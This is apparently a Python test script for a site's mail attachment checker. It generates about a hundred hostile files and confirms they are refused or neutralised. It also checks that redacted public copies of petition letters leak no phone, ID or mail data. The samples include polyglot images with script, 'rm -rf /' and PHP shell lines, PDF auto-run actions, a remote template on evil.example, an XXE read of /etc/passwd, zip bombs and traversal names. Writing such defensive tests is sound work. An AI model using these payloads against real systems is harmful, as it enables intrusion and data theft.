#!/usr/bin/env python3
"""100 hostile files, refused with a sentence or taken apart; the public copy of 1,000 real letters, and of the same with numbers written into them, looked through by other patterns than those that made it."""

import io
import os
import re
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from itertools import chain
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[2]))
import django
import numpy as np
import pyarrow.parquet as pq
from bench.lines import Line, finish, shared
from PIL import Image

from zouxin.flow import public_copy
from zouxin.model.errors import UsageError

SEED, LETTERS = 1, 1000
SCRIPT = b"<script>alert(document.cookie)</script>"
#: what nobody may read in a public copy: an eleven-digit mobile however it is spaced, fifteen or eighteen digits, an address of mail
LEAKS = {
    "mobile": re.compile(r"(?<!\d)1[3-9]\d[\s.\-－·]?\d{4}[\s.\-－·]?\d{4}(?!\d)"),
    "identity": re.compile(r"\d(?:[\s-]?\d){16}[\dXx]"),
    "mail": re.compile(r"[\w.+-]+@[\w-]+\.\w+"),
}
FORMS = ("13{:09d}", "+86 15{:09d}", "138-{:04d}-5678", "139 {:04d} 1234", "电话18{:09d}找我", "110105199{:01d}0307253X", "51010219801{:01d}12003X", "me.{:d}@qq.com",
         "user_{:d}@163.com", "微信同号17{:09d}", "（15{:09d}）", "联系13{:09d}王")  # fmt: skip


def picture(kind: str, size: tuple[int, int] = (40, 30), tail: bytes = b"") -> bytes:
    """A picture with something behind it."""
    out = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(out, kind)
    return out.getvalue() + tail


def office(**parts: bytes) -> bytes:
    """An Office file of those parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as whole:
        for name, data in parts.items():
            whole.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return out.getvalue()


def pdf(inside: bytes) -> bytes:
    """A PDF that does something by itself."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R"
        + inside
        + b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def pictures() -> Iterator[tuple[str, bytes]]:
    """Pictures with something behind them, too many pixels, cut short, or none at all."""
    for kind, ending in (("JPEG", "jpg"), ("PNG", "png"), ("GIF", "gif"), ("WEBP", "webp")):
        for tail in (
            SCRIPT,
            office(x=b"x"),
            b"MZ" + b"\0" * 60,
            b"#!/bin/sh\nrm -rf /",
            b"%PDF-1.4\n/JavaScript",
            b"<?php system($_GET[1]);",
        ):
            yield f"polyglot.{ending}", picture(kind, tail=tail)
        yield f"cut.{ending}", picture(kind)[:60]
        yield f"shorter.{ending}", picture(kind)[:30]
        yield f"lie.{ending}", SCRIPT
    for kind, ending in (("JPEG", "jpg"), ("PNG", "png")):
        yield f"huge.{ending}", picture(kind, (9000, 8000))
    for bits in (b"\xff\xd8\xff\xe0" + b"A" * 4000, b"\xff\xd8\xff"):
        yield "noise.jpg", bits
        yield "noise.jpeg", bits + SCRIPT
    yield "noise.webp", b"RIFF\x10\0\0\0WEBPVP8 " + b"\xff" * 64


def portable() -> Iterator[tuple[str, bytes]]:
    """PDFs that act by themselves, spelled out and spelled crookedly, and files that are a PDF and something else."""
    acts = (b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b"/AA<</O 3 0 R>>", b"/Names<</EmbeddedFiles 3 0 R>>", b"/Names<</JavaScript 3 0 R>>", b"/AcroForm<</XFA 3 0 R>>",
            b"/Open#41ction 3 0 R", b"/#4aavaScript 3 0 R", b"/Launch 3 0 R", b"/SubmitForm 3 0 R", b"/RichMedia 3 0 R")  # fmt: skip
    for act in acts:
        yield "acts.pdf", pdf(act)
    yield "zip.pdf", pdf(b"") + office(x=b"x")
    yield "broken.pdf", b"%PDF-1.7\nnothing"
    yield "late.pdf", b"GIF89a" + pdf(b"")
    yield "html.pdf", pdf(b"") + SCRIPT


def packed() -> Iterator[tuple[str, bytes]]:
    """Office files with macros, hidden files, outside templates, bombs and entities."""
    types = b"<Types/>"
    for name, ending in (("word__vbaProject_dot_bin", "docx"), ("xl__vbaProject_dot_bin", "xlsx"), ("word__embeddings__a_dot_exe", "docx"), ("xl__activeX__a_dot_bin", "xlsx"),
                         ("word__a_dot_html", "docx"), ("__a", "docx"), ("xl__externalLinks__e_dot_xml", "xlsx"), ("..__..__a", "docx")):  # fmt: skip
        yield f"macro.{ending}", office(**{"[Content_Types]_dot_xml": types, name: b"x"})
    rel = b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    for ending in ("docx", "xlsx"):
        yield f"template.{ending}", office(**{"[Content_Types]_dot_xml": types, "word___rels__s_dot_xml_dot_rels": rel})
        yield f"bomb.{ending}", office(**{"[Content_Types]_dot_xml": types, "a_dot_xml": b"\0" * 60_000_000})
        yield f"many.{ending}", office(**{"[Content_Types]_dot_xml": types, **{f"p{n}": b"" for n in range(3200)}})
        yield f"empty.{ending}", office(x=b"x")
        yield f"cut.{ending}", b"PK\x03\x04" + b"\0" * 40
        entities = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><Types>&b;</Types>'
        yield f"entities.{ending}", office(**{"[Content_Types]_dot_xml": entities, "word__document_dot_xml": b"<a/>"})


def named() -> Iterator[tuple[str, bytes]]:
    """Kinds that are not taken, texts that are none, names that lead elsewhere."""
    for name in (
        "a.svg",
        "a.html",
        "a.htm",
        "a.js",
        "a.exe",
        "a.zip",
        "a.php",
        "a.xml",
        "a.docm",
        "a.xlsm",
        "a.lnk",
        "a.jpg.exe",
        "a",
        ".htaccess",
        "a.7z",
        "a.swf",
    ):
        yield name, SCRIPT
    for text in (
        SCRIPT,
        b"<!doctype html>",
        b"\0\0\0",
        b'<?xml version="1.0"?><svg onload="x"/>',
        b"\xff\xfe\xff\xff",
        b"<svg/onload=alert(1)>",
    ):
        yield "a.txt", text
    for name in ("../../../etc/passwd.png", "a\x00.png", "con.png", "a\u202egnp.exe"):
        yield name, picture("PNG", tail=SCRIPT)


def hostile() -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of every hostile file."""
    yield from chain(pictures(), portable(), packed(), named())


def judged(name: str, data: bytes) -> str:
    """refused, neutralised, or what got through."""
    from zouxin.site.mailbox.files import checked

    try:
        clean = checked(name, data)
    except UsageError as error:
        return "refused" if len(error.sentence) > 6 else "no sentence"
    kept = clean.data + clean.public
    bad = (
        any(sign in kept for sign in (SCRIPT, b"PK\x03\x04", b"MZ\0\0\0", b"#!/bin", b"%PDF", b"<?php"))
        or "/" in clean.name
        or "\0" in clean.name
        or ".." in clean.name
    )
    return "got through" if bad or clean.kind != "jpg" else "neutralised"


def main() -> None:
    """The command."""
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "zouxin.site.settings")
    os.environ.setdefault("ZOUXIN_DATA", tempfile.mkdtemp())
    django.setup()
    said = [(name, judged(name, data)) for name, data in hostile()]
    for name, what in said:
        if what not in ("refused", "neutralised"):
            print("HOSTILE", name, what)
    rng = np.random.default_rng(SEED)
    rows = pq.read_table(shared() / "data/shanghai_petitions/dev.parquet").to_pylist()
    words = [f"{row['title']}\n{row['question']}" for row in rows]
    some = [words[k] for k in rng.permutation(len(words))[:LETTERS]]
    planted = [f"{text[: len(text) // 2]} {FORMS[nth % len(FORMS)].format(int(rng.integers(0, 10)) if '01d' in FORMS[nth % len(FORMS)] else int(rng.integers(0, 10_000)))} {text[len(text) // 2 :]}"
               for nth, text in enumerate(some)]  # fmt: skip
    lines = [Line("hostile files that got through", sum(what not in ("refused", "neutralised") for _n, what in said),
                  f"{len(said)} files: {sum(w == 'refused' for _n, w in said)} refused, {sum(w == 'neutralised' for _n, w in said)} neutralised", "= 0"),
             Line("hostile files tried", len(said), "polyglots, bombs, scripts, lies, broken files", ">= 100")]  # fmt: skip
    for name, texts in (("real letters", some), ("the same with a number written into each", planted)):
        before = sum(any(one.search(text) for one in LEAKS.values()) for text in texts)
        left = [(kind, found[0]) for text in texts for kind, one in LEAKS.items() if (found := one.search(public_copy(text)))]
        for row in left[:5]:
            print("LEFT", row)
        lines.append(
            Line(
                f"{name}: public copies that leak a mobile, identity number or mail address",
                len(left),
                f"{len(texts):,} letters, {before} with one before",
                "= 0",
            )
        )
    finish("mailbox-attachments", lines, seed=SEED)


if __name__ == "__main__":
    main()
